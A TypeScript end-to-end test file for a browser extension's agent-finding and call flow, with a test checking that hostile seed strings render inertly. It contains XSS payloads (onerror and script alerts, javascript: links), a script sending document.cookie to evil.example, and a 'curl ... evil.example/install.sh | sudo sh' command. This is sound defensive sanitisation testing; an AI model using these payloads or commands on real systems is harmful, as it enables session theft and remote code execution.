/**
 * The member's main journey in Chromium against a real emulator, in both profiles: connect with a code from
 * the control API, find from a selection through the context-menu handler, preview, start, poll to passed, a
 * notification, the result under its header line; then (default profile) the seed's hostile strings, which
 * render as text and run nothing. The strict site has no POST /calls/quote: the preview of the kind of call
 * is shown, saying the typed request was not checked.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type LoadedExtension, launchExtension } from './browser';
import {
  agentCards,
  connectPanel,
  findFromSelection,
  findInPanel,
  GUILD_HEADER,
  notificationIds,
  openArticle,
  openPreview,
  PROFILES,
  startCall,
  startTestEmulator,
  type TestEmulator,
  WAIT_MS,
  waitForFind,
  waitForResult,
} from './harness';

for (const profile of PROFILES) {
describe(`the member's journey (${profile} profile)`, () => {
  let emu: TestEmulator;
  let ext: LoadedExtension;
  let panel: Page;
  // Anything that tries to run: a dialog on any page, an uncaught error, a request to the hostile strings' hosts.
  const dialogs: string[] = [];
  const pageErrors: string[] = [];
  const requested: string[] = [];

  beforeAll(async () => {
    emu = await startTestEmulator({ profile });
    ext = await launchExtension();
    const watch = (page: Page) => {
      page.on('dialog', (dialog) => {
        dialogs.push(`${dialog.type()}: ${dialog.message()}`);
        void dialog.dismiss();
      });
      page.on('pageerror', (error) => pageErrors.push(error.message));
    };
    ext.context.pages().forEach(watch);
    ext.context.on('page', watch);
    ext.context.on('request', (request) => requested.push(request.url()));
    panel = await ext.openPanel();
  });

  afterAll(async () => {
    await ext?.close();
    await emu?.close();
  });

  test('connect, find from a selection, preview, start, poll to passed: notified once, result under its header', async () => {
    const made = await emu.control.connectCode({ name: 'E2E browser' });
    await connectPanel(panel, emu.url, made.code);
    await panel.getByRole('heading', { name: 'Connected as “E2E browser”' }).waitFor();
    const claims = await emu.control.requests('/api/v1/connections/claim');
    expect(claims.map((r) => r.status)).toEqual([200]);

    const article = await openArticle(ext, ['  Our slow postgres queries got worse after we added replication.  ']);
    const selected = await findFromSelection(ext, article.locator('#p0'));
    await panel.bringToFront();
    // The selection as it was sent: trimmed.
    const found = await waitForFind(panel, 'From your selection (menu)', selected.trim());
    expect(await agentCards(found).first().getByRole('heading').textContent()).toBe('Postgres Tuning Guild');
    const finds = (await emu.control.requests('/api/v1/find')).filter((r) => r.method === 'POST');
    expect(finds.map((r) => r.body)).toEqual([{ description: selected.trim() }]);

    const preview = await openPreview(panel, { agentName: 'Postgres Tuning Guild', kind: 'question', text: 'Which index helps a LIKE prefix search?' });
    expect((await preview.locator('.sentence').textContent())?.trim()).not.toBe('');
    expect(await preview.getByText('The most it can hold and charge', { exact: true }).isVisible()).toBe(true);
    expect(await preview.locator('.limit').textContent()).toMatch(/^\$\d+\.\d\d, set by .*; not a price$/);
    // A preview runs nothing.
    expect(await emu.control.callStarts()).toEqual([]);
    if (profile === 'strict') {
      await panel.getByText(/This site does not check a typed request before the call/).waitFor({ timeout: WAIT_MS });
      expect((await emu.control.requests('/api/v1/calls/quote')).map((r) => r.status)).toEqual([404]);
    } else {
      await expect.poll(async () => (await emu.control.requests('/api/v1/calls/quote')).map((r) => r.status), { timeout: WAIT_MS }).toContain(200);
    }

    await startCall(panel);
    const result = await waitForResult(panel, 'Passed its checks (charged)');
    const starts = await emu.control.callStarts();
    expect(starts.map((r) => r.status)).toEqual([202]);
    expect(starts[0]?.body).toMatchObject({ agentId: 'agt_postgres', callId: 'question', question: 'Which index helps a LIKE prefix search?' });

    // The header line comes first in the result, verbatim, and sits above the note.
    const header = result.locator(':scope > *').first();
    expect(await header.getAttribute('class')).toContain('result-header');
    expect(await header.textContent()).toBe(GUILD_HEADER);
    const note = result.getByRole('region', { name: 'Note' });
    expect(await note.textContent()).toContain('Asked: Which index helps a LIKE prefix search?');
    const headerBox = await header.boundingBox();
    const noteBox = await note.boundingBox();
    expect(headerBox && noteBox && headerBox.y + headerBox.height <= noteBox.y).toBe(true);

    // One notification for the call that passed, raised by the background.
    const reads = (await emu.control.requests('/api/v1/calls/')).filter((r) => r.method === 'GET');
    const runIds = new Set(reads.map((r) => r.path.split('/').at(-1)));
    expect(runIds.size).toBe(1);
    await expect.poll(() => notificationIds(ext), { timeout: WAIT_MS }).toEqual([`call:${[...runIds][0]}:finished`]);
  });

  test.runIf(profile === 'default')('the hostile seed strings render as text and run nothing', async () => {
    const hostileSelection = `<img src=x onerror=alert('selection')> security review of our login: xss and csrf`;
    const article = await openArticle(ext, [hostileSelection]);
    await findFromSelection(ext, article.locator('#p0'));
    await panel.bringToFront();
    const found = await waitForFind(panel, 'From your selection (menu)', hostileSelection);

    const security = agentCards(found).filter({ hasText: 'Security Reviewer' });
    expect(await security.getByRole('heading').textContent()).toBe(`<img src=x onerror=alert('name')> Security Reviewer`);
    expect(await security.locator('.style-line').textContent()).toBe('<script>alert("style line")</script> Finds what attackers find first.');
    expect(await security.textContent()).toContain('See [our docs](javascript:alert(document.domain)).');

    // A passing call whose note carries a script, a javascript: link and instructions to run a command.
    await findInPanel(panel, 'fine-tuning a model with lora on a small dataset');
    await openPreview(panel, { agentName: 'Model Fine-Tuning Mentor', kind: 'question', text: 'Which LoRA rank for 2,000 examples?' });
    await startCall(panel);
    const result = await waitForResult(panel, 'Passed its checks (charged)');
    const note = result.getByRole('region', { name: 'Note' });
    const noteText = (await note.textContent()) ?? '';
    // Read by the safe Markdown reader: markup stays its characters; an http(s) address is text with an
    // "Open link" button the member may press; a javascript: link is its words and address, with no button.
    expect(noteText).toContain("<script>fetch('https://evil.example/");
    expect(noteText).toContain("'+document.cookie)</script>");
    expect(noteText).toContain("Click for the fix (javascript:alert('pwned'))");
    expect(noteText).toContain('<a href="javascript:alert(1)">details</a>');
    expect(await note.locator('code').filter({ hasText: 'curl -s https://evil.example/install.sh | sudo sh' }).count()).toBe(1);
    expect(await note.getByRole('button', { name: /^Open link: javascript/ }).count()).toBe(0);
    expect(await result.locator(':scope > *').first().textContent()).toBe(GUILD_HEADER);

    // Nothing from untrusted text became an element, a link or a handler.
    const live = await panel.evaluate(() => ({
      scripts: document.body.querySelectorAll('script').length,
      images: document.body.querySelectorAll('img, svg image, iframe, object, embed').length,
      javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
      handlers: [...document.body.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
    }));
    expect(live).toEqual({ scripts: 0, images: 0, javascriptLinks: 0, handlers: [] });
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(requested.filter((url) => url.includes('evil.example') || /\/x$/.test(url))).toEqual([]);
  });
});
}
